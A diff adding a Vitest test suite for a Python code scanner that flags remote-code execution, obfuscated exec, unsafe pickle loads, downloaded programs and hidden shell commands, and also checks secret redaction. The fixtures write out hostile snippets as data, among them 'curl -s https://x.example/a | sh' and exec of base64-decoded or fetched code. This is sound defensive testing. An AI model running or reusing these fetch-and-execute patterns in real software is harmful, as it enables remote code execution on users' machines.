@@ -1,0 +1,142 @@
+import { describe, expect, it } from 'vitest';
+import { codeOf } from './code-of.js';
+
+/** The rules a file breaks, in the order of its lines. */
+async function rulesOf(source: string): Promise<string[]> {
+  return (await codeOf({ 'a.py': source })).findings.map(({ rule }) => rule);
+}
+
+describe('flags', () => {
+  it.each([
+    ['remote-code', 'import requests\nexec(requests.get("https://x.example/a.py").text)'],
+    [
+      'remote-code',
+      'import requests as r\ndef go():\n  answer = r.get(u)\n  code = answer.content.decode()\n  exec(compile(code, "x", "exec"))',
+    ],
+    [
+      'remote-code',
+      'from urllib.request import urlopen\nwith urlopen(u) as f:\n  data = f.read()\neval(data)',
+    ],
+    ['remote-code', 'import requests\ndef run(code):\n  exec(code)\nrun(requests.get(u).text)'],
+    [
+      'remote-code',
+      'import urllib.request\ngetattr(__builtins__, "ex" + "ec")(urllib.request.urlopen(u).read())',
+    ],
+    ['obfuscated-code', 'import base64\nexec(base64.b64decode("cHJpbnQoMSk="))'],
+    [
+      'obfuscated-code',
+      'from zlib import decompress as d\nfrom base64 import b64decode as b\np = d(b(X))\nexec(p)',
+    ],
+    ['obfuscated-code', 'import marshal\nexec(marshal.loads(DATA))'],
+    ['obfuscated-code', 'exec("".join(chr(n) for n in [112, 114, 105]))'],
+    ['obfuscated-code', 'exec(bytes.fromhex("7072696e74").decode())'],
+    ['obfuscated-code', 'import codecs\neval(codecs.decode("cevag", "rot13"))'],
+    ['obfuscated-code', 'exec(__import__("base64").b64decode(X))'],
+    ['remote-pickle', 'import pickle, requests\nresponse = requests.post(u)\npickle.loads(response.content)'],
+    [
+      'downloaded-program',
+      'import urllib.request, subprocess\nurllib.request.urlretrieve(u, path)\nsubprocess.run([path, "-q"])',
+    ],
+    [
+      'downloaded-program',
+      'import requests, os\nbody = requests.get(u).content\nwith open("x.exe", "wb") as f:\n  f.write(body)\nos.startfile("x.exe")',
+    ],
+    [
+      'downloaded-program',
+      'import urllib.request\nurllib.request.urlretrieve(u, "x.py")\nexec(open("x.py").read())',
+    ],
+    ['download-command', 'import os\nos.system("curl -s https://x.example/a | sh")'],
+    ['download-command', 'import subprocess\nsubprocess.Popen(["powershell", "-enc", "AAAA"])'],
+    ['hidden-command', 'import os, base64\nos.system(base64.b64decode("bHM=").decode())'],
+  ])('%s: %s', async (rule, source) => {
+    const { findings } = await codeOf({ 'a.py': source });
+    expect(findings).toContainEqual(expect.objectContaining({ rule, severity: 'high', file: 'a.py' }));
+  });
+});
+
+describe('mentions, but does not flag,', () => {
+  it.each([
+    [
+      'dynamic-code',
+      'def calculate(self, expression):\n  return eval(expression, {"__builtins__": {}}, names)',
+    ],
+    ['pickle', 'import pickle\npickle.load(open("cache.pkl", "rb"))'],
+    [
+      'runtime-install',
+      'import subprocess, sys\nsubprocess.check_call([sys.executable, "-m", "pip", "install", "numpy"])',
+    ],
+    ['runtime-install', 'import os\nos.system("pip install -r requirements.txt")'],
+    ['subprocess', 'import subprocess\nsubprocess.run([ffmpeg, "-i", name], check=True)'],
+    ['network-at-import', 'import requests\nlatest = requests.get("https://x.example/version").json()'],
+    ['deletes-folders', 'import shutil\nshutil.rmtree(folder)'],
+  ])('%s: %s', async (rule, source) => {
+    const { findings } = await codeOf({ 'a.py': source });
+    expect(findings.map((one) => [one.rule, one.severity])).toEqual([[rule, 'low']]);
+  });
+});
+
+describe('has nothing to say about', () => {
+  it.each([
+    ['a model in evaluation mode', 'model.eval()\nself.model.eval()'],
+    ['a compiled pattern or model', 'import re, torch\np = re.compile("a")\nm = torch.compile(model)'],
+    ['a picture decoded from base64', 'import base64\nimage = open_image(base64.b64decode(text))'],
+    ['a download in a function', 'import requests\ndef fetch():\n  return requests.get(u).json()'],
+    [
+      'a model that is downloaded and loaded',
+      'import torch\nfrom huggingface_hub import hf_hub_download\ntorch.load(hf_hub_download(a, b))',
+    ],
+    ['a query that is executed', 'cursor.execute("select 1")\ndf.eval("a + b")'],
+    ['words in a text or comment', '# exec(requests.get(u).text)\nx = "exec(base64.b64decode(y))"'],
+  ])('%s', async (_, source) => {
+    expect(await rulesOf(source)).toEqual([]);
+  });
+});
+
+it('runs a downloaded picture through ffmpeg without a flag, for the picture is no program', async () => {
+  const source =
+    'import urllib.request, subprocess\ndef go():\n  urllib.request.urlretrieve(u, picture)\n  subprocess.run(["ffmpeg", "-i", picture])';
+  expect(await rulesOf(source)).toEqual(['subprocess']);
+});
+
+it('gives line and sentence, and never the secret', async () => {
+  const token = `ghp_${'aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA1cD3'}`;
+  const { findings } = await codeOf({
+    'config.json': `{\n  "token": "${token}"\n}`,
+    '.env': 'TOKEN=1',
+    'model.bin': token,
+  });
+  expect(findings).toEqual([
+    {
+      file: '.env',
+      line: 1,
+      rule: 'secret',
+      severity: 'high',
+      message: expect.stringContaining('environment file'),
+    },
+    {
+      file: 'config.json',
+      line: 2,
+      rule: 'secret',
+      severity: 'high',
+      message: expect.stringContaining('GitHub token'),
+    },
+  ]);
+  expect(JSON.stringify(findings)).not.toContain(token.slice(0, 12));
+});
+
+it('orders findings by file and line, each rule once a line', async () => {
+  const { findings } = await codeOf({
+    'b.py': 'eval(x); eval(y)\n\neval(z)',
+    'a.py': 'import shutil\nshutil.rmtree(x)',
+  });
+  expect(findings.map(({ file, line }) => `${file}:${line}`)).toEqual(['a.py:2', 'b.py:1', 'b.py:3']);
+});
+
+it('stays bounded on commands and calls without end', async () => {
+  const { findings } = await codeOf({
+    'a.py': `import subprocess\nsubprocess.run("${'curl powershell '.repeat(20_000)}")\n`,
+    'b.py': `def f(x): exec(x)\n${'f(f)\n'.repeat(5000)}`,
+    'c.py': `import requests\n${'x = x + x + y\n'.repeat(3000)}${'exec(x)\n'.repeat(3000)}`,
+  });
+  expect(findings.length).toBeLessThanOrEqual(300);
+});
